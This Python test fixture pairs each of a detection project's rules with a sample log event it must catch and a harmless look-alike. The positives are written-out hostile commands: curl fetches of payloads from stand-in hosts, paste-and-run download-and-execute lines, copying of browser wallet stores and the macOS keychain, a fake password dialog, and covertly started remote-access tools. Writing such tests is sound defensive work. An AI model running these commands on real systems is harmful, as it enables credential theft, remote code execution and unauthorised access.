# ruff: noqa: E501 - command lines are as long as they are
"""One event that each of our own rules must hit, and one hard negative that it must not; harmless texts."""

from bongsu.model.log import LogStream

SYSMON = "Microsoft-Windows-Sysmon/Operational"
WINDOWS_PROCESS = LogStream("windows", "sysmon", "process_creation", SYSMON, "1")
WINDOWS_DNS = LogStream("windows", "sysmon", "dns_query", SYSMON, "22")
WINDOWS_FILE = LogStream("windows", "", "file_access", "Microsoft-Windows-Kernel-File/Analytic", "12")
MACOS_PROCESS = LogStream("macos", "", "process_creation")
LINUX_PROCESS = LogStream("linux", "sysmon", "process_creation", "", "1")
PROXY = LogStream("squid", "access", "proxy")

SAMPLES = {
    # recruiter_node_windows
    "9fb93534-081c-4253-b1e2-73a87984a8ab": (
        {
            "Image": "C:\\Program Files\\nodejs\\node.exe",
            "CommandLine": "node server.js",
            "CurrentDirectory": "C:\\Users\\mina\\Downloads\\coding-task\\",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        },
        {
            "Image": "C:\\Program Files\\nodejs\\node.exe",
            "CommandLine": 'node "C:\\Users\\mina\\AppData\\Roaming\\npm\\node_modules\\eslint\\bin\\eslint.js" src',
            "CurrentDirectory": "C:\\Users\\mina\\source\\portal\\",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        },
        WINDOWS_PROCESS,
    ),
    # recruiter_python_windows
    "db149e47-14be-49ab-b93f-e42eabd2d9f2": (
        {
            "Image": "C:\\Users\\mina\\AppData\\Local\\Programs\\Python\\Python311\\pythonw.exe",
            "CommandLine": "pythonw.exe C:\\Users\\mina\\AppData\\Local\\Temp\\bow\\main.py",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        },
        {
            "Image": "C:\\Users\\mina\\AppData\\Local\\Programs\\Python\\Python311\\python.exe",
            "CommandLine": "python.exe C:\\Users\\mina\\AppData\\Local\\Temp\\pip-build-env-x\\setup.py egg_info",
            "ParentImage": "C:\\Users\\mina\\AppData\\Local\\Programs\\Python\\Python311\\Scripts\\pip.exe",
        },
        WINDOWS_PROCESS,
    ),
    # node_starts_python_windows
    "3994693e-a3ae-4e68-9323-451b4a95902a": (
        {
            "ParentImage": "C:\\Program Files\\nodejs\\node.exe",
            "Image": "C:\\Users\\mina\\.pyp\\python.exe",
            "CommandLine": '"C:\\Users\\mina\\.pyp\\python.exe" "C:\\Users\\mina\\.sysinfo"',
        },
        {
            "ParentImage": "C:\\Program Files\\nodejs\\node.exe",
            "Image": "C:\\Users\\mina\\source\\api\\.venv\\Scripts\\python.exe",
            "CommandLine": "C:\\Users\\mina\\.venv\\Scripts\\python.exe -m node_gyp_helper",
        },
        WINDOWS_PROCESS,
    ),
    # node_fetches_archive_windows
    "1aa615a9-4b6a-4551-a061-ae14a1dbf721": (
        {
            "ParentImage": "C:\\Program Files\\nodejs\\node.exe",
            "ParentCommandLine": "node server.js",
            "Image": "C:\\Windows\\System32\\curl.exe",
            "CommandLine": "curl -Lo C:\\Users\\mina\\AppData\\Local\\Temp\\p.zi -o http://192.0.2.7:1224/pdown",
        },
        {
            "ParentImage": "C:\\Program Files\\nodejs\\node.exe",
            "ParentCommandLine": "node install.js",
            "Image": "C:\\Windows\\System32\\curl.exe",
            "CommandLine": "curl -fsSL https://nodejs.org/dist/v20.9.0/headers.tar.gz -o C:\\Users\\mina\\AppData\\Local\\Temp\\headers.tgz",
        },
        WINDOWS_PROCESS,
    ),
    # python_hidden_home_macos
    "8b3a1535-3f13-4b70-9856-c32a687b253b": (
        {
            "Image": "/usr/bin/python3",
            "CommandLine": "python3 /Users/mina/.npl",
            "ParentImage": "/usr/local/bin/node",
        },
        {
            "Image": "/usr/bin/python3",
            "CommandLine": "python3 /Users/mina/.venv/bin/pytest tests",
            "ParentImage": "/bin/zsh",
        },
        MACOS_PROCESS,
    ),
    # python_hidden_home_linux
    "a7213dfe-8932-4293-a0dd-5386c9cf0800": (
        {
            "Image": "/usr/bin/python3",
            "CommandLine": "python3 /home/mina/.npl",
            "ParentImage": "/usr/local/bin/node",
        },
        {
            "Image": "/usr/bin/python3",
            "CommandLine": "python3 /home/mina/.venv/bin/pytest tests",
            "ParentImage": "/bin/zsh",
        },
        LINUX_PROCESS,
    ),
    # recruiter_node_macos
    "67d1191f-da80-40bd-919e-9bc7f4a02d92": (
        {
            "Image": "/usr/local/bin/node",
            "CommandLine": "node /Users/mina/Downloads/assessment/server/app.js",
            "ParentImage": "/bin/zsh",
        },
        {
            "Image": "/usr/local/bin/node",
            "CommandLine": "node /usr/local/lib/node_modules/npm/bin/npm-cli.js --prefix /Users/mina/Downloads/site install",
            "ParentImage": "/bin/zsh",
        },
        MACOS_PROCESS,
    ),
    # recruiter_node_linux
    "fd95588c-5e4e-410b-b14c-f51964cd1715": (
        {
            "Image": "/usr/local/bin/node",
            "CommandLine": "node /home/mina/Downloads/assessment/server/app.js",
            "ParentImage": "/bin/zsh",
        },
        {
            "Image": "/usr/local/bin/node",
            "CommandLine": "node /usr/local/lib/node_modules/npm/bin/npm-cli.js --prefix /home/mina/Downloads/site install",
            "ParentImage": "/bin/zsh",
        },
        LINUX_PROCESS,
    ),
    # wallet_store_read_windows
    "d561cab7-7e4d-473d-b44d-04cb5f0f2c02": (
        {
            "Image": "C:\\Users\\mina\\AppData\\Local\\Temp\\node.exe",
            "FileName": "C:\\Users\\mina\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Local Extension Settings\\nkbihfbeogaeaoehlefnkodbefgpgknn\\000003.log",
        },
        {
            "Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "FileName": "C:\\Users\\mina\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Local Extension Settings\\nkbihfbeogaeaoehlefnkodbefgpgknn\\000003.log",
        },
        WINDOWS_FILE,
    ),
    # wallet_store_copied_windows
    "3c85b930-b9f0-420f-929e-04e213311e91": (
        {
            "Image": "C:\\Windows\\System32\\xcopy.exe",
            "CommandLine": 'xcopy "C:\\Users\\mina\\AppData\\Local\\Google\\Chrome\\User Data\\Default\\Local Extension Settings" C:\\Users\\Public\\les /s',
        },
        {
            "Image": "C:\\Windows\\System32\\Robocopy.exe",
            "CommandLine": "robocopy C:\\Users\\mina\\Documents \\\\files.firm.example\\backup\\mina /mir",
        },
        WINDOWS_PROCESS,
    ),
    # wallet_store_copied_macos
    "1b0b5a92-ca9f-4dae-85e1-fb5bb643edf4": (
        {
            "Image": "/usr/bin/zip",
            "CommandLine": 'zip -r /tmp/e.zip "/Users/mina/Library/Application Support/Google/Chrome/Default/Local Extension Settings"',
        },
        {
            "Image": "/usr/bin/zip",
            "CommandLine": "zip -r /Users/mina/Desktop/photos.zip /Users/mina/Pictures/2029",
        },
        MACOS_PROCESS,
    ),
    # keychain_copied_macos
    "fece6b98-9a32-4eae-b86c-67b35a0ac810": (
        {"Image": "/bin/cp", "CommandLine": "cp /Users/mina/Library/Keychains/login.keychain-db /tmp/kc"},
        {
            "Image": "/usr/bin/security",
            "CommandLine": "security find-certificate -a /Users/mina/Library/Keychains/login.keychain-db",
        },
        MACOS_PROCESS,
    ),
    # password_asked_by_script_macos
    "5da24106-869b-4c3d-8192-74d465ee28de": (
        {
            "Image": "/usr/bin/osascript",
            "CommandLine": 'osascript -e \'display dialog "Update needs your password" default answer "" with hidden answer\'',
        },
        {
            "Image": "/usr/bin/osascript",
            "CommandLine": 'osascript -e \'display dialog "Backup done" buttons {"OK"}\'',
        },
        MACOS_PROCESS,
    ),
    # clipboard_read_by_script_windows
    "4bcee26a-6a9d-449c-8954-549c429fdbf7": (
        {
            "ParentImage": "C:\\Program Files\\nodejs\\node.exe",
            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "CommandLine": "powershell -NoProfile -Command Get-Clipboard",
        },
        {
            "ParentImage": "C:\\Windows\\explorer.exe",
            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "CommandLine": 'powershell -NoProfile -Command "Get-Clipboard | Set-Content notes.txt"',
        },
        WINDOWS_PROCESS,
    ),
    # anydesk_odd_start_windows
    "56c8a7f9-757f-4125-ad53-b107073391a5": (
        {
            "Image": "C:\\Users\\mina\\AnyDesk.exe",
            "OriginalFileName": "AnyDesk.exe",
            "CommandLine": '"C:\\Users\\mina\\AnyDesk.exe" --with-password',
            "ParentImage": "C:\\Users\\mina\\.pyp\\pythonw.exe",
        },
        {
            "Image": "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe",
            "OriginalFileName": "AnyDesk.exe",
            "CommandLine": '"C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe" --control',
            "ParentImage": "C:\\Windows\\explorer.exe",
        },
        WINDOWS_PROCESS,
    ),
    # rustdesk_odd_place_windows
    "3623ac61-22ae-4903-a204-25dd2e67dbe9": (
        {
            "Image": "C:\\ProgramData\\upd\\rustdesk.exe",
            "CommandLine": "rustdesk.exe --password Autumn2029",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        },
        {
            "Image": "C:\\Program Files\\RustDesk\\rustdesk.exe",
            "CommandLine": '"C:\\Program Files\\RustDesk\\rustdesk.exe" --tray',
            "ParentImage": "C:\\Program Files\\RustDesk\\rustdesk.exe",
        },
        WINDOWS_PROCESS,
    ),
    # meshagent_odd_start_windows
    "cae33afe-5780-4cdb-9f64-2b78f0088cfc": (
        {
            "Image": "C:\\ProgramData\\srv\\meshagent.exe",
            "OriginalFileName": "MeshAgent.exe",
            "CommandLine": "meshagent.exe -fullinstall",
        },
        {
            "Image": "C:\\Program Files\\Mesh Agent\\MeshAgent.exe",
            "OriginalFileName": "MeshAgent.exe",
            "CommandLine": '"C:\\Program Files\\Mesh Agent\\MeshAgent.exe" --meshServiceName="Mesh Agent"',
        },
        WINDOWS_PROCESS,
    ),
    # hwp_starts_script_windows
    "76e2507b-c7b1-4aa8-9365-5fc9e35d6c11": (
        {
            "ParentImage": "C:\\Program Files (x86)\\Hnc\\Office 2022\\HOffice120\\Bin\\Hwp.exe",
            "Image": "C:\\Windows\\System32\\wscript.exe",
            "CommandLine": "wscript.exe C:\\Users\\mina\\AppData\\Local\\Temp\\form.vbs",
        },
        {
            "ParentImage": "C:\\Program Files (x86)\\Hnc\\Office 2022\\HOffice120\\Bin\\Hwp.exe",
            "Image": "C:\\Windows\\System32\\rundll32.exe",
            "CommandLine": "rundll32.exe printui.dll,PrintUIEntry /e",
        },
        WINDOWS_PROCESS,
    ),
    # hwp_postscript_windows
    "671b5a96-5693-4632-85c3-0e119edb8d92": (
        {
            "ParentImage": "C:\\Program Files (x86)\\Hnc\\Common80\\Imgfilters\\gs\\gs8.60\\bin\\gbb.exe",
            "Image": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "cmd /c start C:\\Users\\mina\\AppData\\Roaming\\upd.bat",
        },
        {
            "ParentImage": "C:\\Program Files (x86)\\Hnc\\Common80\\Imgfilters\\gs\\gs8.60\\bin\\gbb.exe",
            "Image": "C:\\Windows\\System32\\WerFault.exe",
            "CommandLine": "WerFault.exe -u -p 4711",
        },
        WINDOWS_PROCESS,
    ),
    # lnk_reads_itself_windows
    "92d254d7-fe03-40e4-808f-532c9af26054": (
        {
            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "CommandLine": "powershell -windowstyle hidden $f=Get-ChildItem *.lnk | where {$_.length -eq 0x18C71}; [IO.File]::ReadAllBytes($f)",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        },
        {
            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "CommandLine": 'powershell Get-ChildItem "C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs" -Filter *.lnk | where {$_.Length -eq 0} | Remove-Item',
            "ParentImage": "C:\\Windows\\System32\\svchost.exe",
        },
        WINDOWS_PROCESS,
    ),
    # image_runs_shell_windows
    "17d104f6-6e33-42b0-b3e4-5fcec83c2a8d": (
        {
            "ParentImage": "C:\\Windows\\explorer.exe",
            "Image": "C:\\Windows\\System32\\rundll32.exe",
            "CurrentDirectory": "E:\\",
            "CommandLine": "rundll32.exe viewer.dll,Show",
        },
        {
            "ParentImage": "C:\\Windows\\explorer.exe",
            "Image": "C:\\Windows\\System32\\cmd.exe",
            "CurrentDirectory": "D:\\work\\",
            "CommandLine": "cmd.exe /c build.bat",
        },
        WINDOWS_PROCESS,
    ),
    # script_from_mail_cache_windows
    "86b22542-b581-4f0a-affc-4798d551e17d": (
        {
            "Image": "C:\\Windows\\System32\\wscript.exe",
            "CommandLine": 'wscript.exe "C:\\Users\\mina\\AppData\\Local\\Temp\\Temp1_questionnaire.zip\\questionnaire.js"',
            "ParentImage": "C:\\Windows\\explorer.exe",
        },
        {
            "Image": "C:\\Windows\\System32\\cscript.exe",
            "CommandLine": "cscript.exe //nologo C:\\Windows\\System32\\slmgr.vbs /dli",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        },
        WINDOWS_PROCESS,
    ),
    # help_file_starts_script_windows
    "98177d46-22d2-4a85-be88-04180025cd7f": (
        {
            "ParentImage": "C:\\Windows\\hh.exe",
            "Image": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "cmd /c echo QQ== > %USERPROFILE%\\Links\\d.dat & certutil -decode",
        },
        {
            "ParentImage": "C:\\Windows\\hh.exe",
            "Image": "C:\\Windows\\splwow64.exe",
            "CommandLine": "splwow64.exe 8192",
        },
        WINDOWS_PROCESS,
    ),
    # pasted_command_windows
    "884f3166-0a43-4e88-99ef-1e6ea55cafd9": (
        {
            "ParentImage": "C:\\Windows\\explorer.exe",
            "Image": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "cmd /c curl -k -o %TEMP%\\nvidia.zip https://camera-drivers.example/nvidia-update && powershell Expand-Archive",
        },
        {
            "ParentImage": "C:\\Windows\\System32\\svchost.exe",
            "Image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "CommandLine": "powershell Invoke-WebRequest https://drivers.firm.example/audio/audio.cab -OutFile audio.cab",
        },
        WINDOWS_PROCESS,
    ),
    # pasted_command_macos
    "8e71e249-e050-46ee-8adb-2a053379959f": (
        {
            "Image": "/bin/zsh",
            "CommandLine": "zsh -c curl -k -o /var/tmp/ffmpeg.sh https://camera-drivers.example/ffmpeg-ar.sh && chmod +x /var/tmp/ffmpeg.sh && nohup bash /var/tmp/ffmpeg.sh",
        },
        {
            "Image": "/bin/bash",
            "CommandLine": "bash -c curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
        },
        MACOS_PROCESS,
    ),
    # pasted_command_linux
    "c48f6f41-a450-4d59-ab87-a4dc157a8060": (
        {
            "Image": "/bin/zsh",
            "CommandLine": "zsh -c curl -k -o /var/tmp/ffmpeg.sh https://camera-drivers.example/ffmpeg-ar.sh && chmod +x /var/tmp/ffmpeg.sh && nohup bash /var/tmp/ffmpeg.sh",
        },
        {
            "Image": "/bin/bash",
            "CommandLine": "bash -c curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y",
        },
        LINUX_PROCESS,
    ),
    # task_with_script_in_user_folder_windows
    "b9f3dd48-974b-4a32-b2f3-d31d476345e5": (
        {
            "Image": "C:\\Windows\\System32\\schtasks.exe",
            "CommandLine": 'schtasks /create /tn ChromeUpdateCheck /sc minute /mo 41 /tr "wscript.exe C:\\Users\\Public\\Music\\upd.vbs" /f',
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        },
        {
            "Image": "C:\\Windows\\System32\\schtasks.exe",
            "CommandLine": 'schtasks /create /tn Backup /sc daily /st 02:00 /tr "powershell -File C:\\Scripts\\backup.ps1"',
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        },
        WINDOWS_PROCESS,
    ),
    # editor_tunnel_windows
    "79923b20-1db0-4de5-bfdc-3b1dd2742ee7": (
        {
            "Image": "C:\\Users\\Public\\code.exe",
            "CommandLine": "code.exe tunnel --accept-server-license-terms --name host7",
            "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        },
        {
            "Image": "C:\\Users\\mina\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
            "CommandLine": "Code.exe --folder-uri file:///c%3A/src/tunnel-model",
            "ParentImage": "C:\\Windows\\explorer.exe",
        },
        WINDOWS_PROCESS,
    ),
    # editor_tunnel_name_windows
    "528efc2d-91d1-40e4-adaf-31aca920a5ea": (
        {"Image": "C:\\ProgramData\\svc\\helper.exe", "QueryName": "global.rel.tunnels.api.visualstudio.com"},
        {
            "Image": "C:\\Users\\mina\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe",
            "QueryName": "global.rel.tunnels.api.visualstudio.com",
        },
        WINDOWS_DNS,
    ),
    # agent_loaded_from_shared_folder_macos
    "f3e9b455-903c-4f11-b998-756565e1a396": (
        {"Image": "/bin/launchctl", "CommandLine": "launchctl load -w /Users/Shared/com.drive.plist"},
        {
            "Image": "/bin/launchctl",
            "CommandLine": "launchctl load -w /Library/LaunchDaemons/com.firm.agent.plist",
        },
        MACOS_PROCESS,
    ),
    # task_project_installed_windows
    "440ead79-1a76-45e8-8652-6e36bbad2786": (
        {
            "Image": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "cmd /c npm install",
            "CurrentDirectory": "C:\\Users\\mina\\Downloads\\frontend-assessment\\",
        },
        {
            "Image": "C:\\Windows\\System32\\cmd.exe",
            "CommandLine": "cmd /c npm install",
            "CurrentDirectory": "C:\\Users\\mina\\source\\load-test\\",
        },
        WINDOWS_PROCESS,
    ),
    # browser_with_loaded_extension_windows
    "553138ea-2d2b-43d9-80fd-c9144b239812": (
        {
            "Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "CommandLine": "chrome.exe --load-extension=C:\\Users\\mina\\AppData\\Roaming\\AF",
            "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        },
        {
            "Image": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "CommandLine": "chrome.exe --enable-automation --remote-debugging-port=0 --load-extension=C:\\agent\\ext",
            "ParentImage": "C:\\Windows\\System32\\cmd.exe",
        },
        WINDOWS_PROCESS,
    ),
    # rdp_wrapper_windows
    "8289abc7-40a5-40d5-a98d-9687c967d7e8": (
        {"Image": "C:\\ProgramData\\RDPWInst.exe", "CommandLine": "RDPWInst.exe -i -o"},
        {"Image": "C:\\Windows\\System32\\mstsc.exe", "CommandLine": "mstsc.exe /v:files.firm.example"},
        WINDOWS_PROCESS,
    ),
    # cloud_store_by_script_proxy
    "9b4eaf8c-b5bc-40c0-b7d3-7b2894ccd811": (
        {
            "cs-host": "content.dropboxapi.com",
            "c-useragent": "Mozilla/5.0 (Windows NT; Windows NT 10.0) WindowsPowerShell/5.1",
            "c-uri": "https://content.dropboxapi.com/2/files/upload",
        },
        {
            "cs-host": "content.dropboxapi.com",
            "c-useragent": "DropboxDesktopClient/190.4",
            "c-uri": "https://content.dropboxapi.com/2/files/upload",
        },
        PROXY,
    ),
    # call_script_fetches_macos
    "586f4b39-fe00-4ab9-b63a-c2db2aa4da4c": (
        {
            "ParentImage": "/System/Applications/Utilities/Script Editor.app/Contents/MacOS/Script Editor",
            "Image": "/bin/sh",
            "CommandLine": "sh -c curl -s https://support.zoom-call.example/fix -o /tmp/fix",
        },
        {
            "ParentImage": "/usr/bin/osascript",
            "Image": "/bin/sh",
            "CommandLine": "sh -c curl -s https://cdn.zoom.us/prod/Zoom.pkg -o /tmp/Zoom.pkg",
        },
        MACOS_PROCESS,
    ),
}
"""Id of a rule to a positive event, a negative one, and the stream of both."""
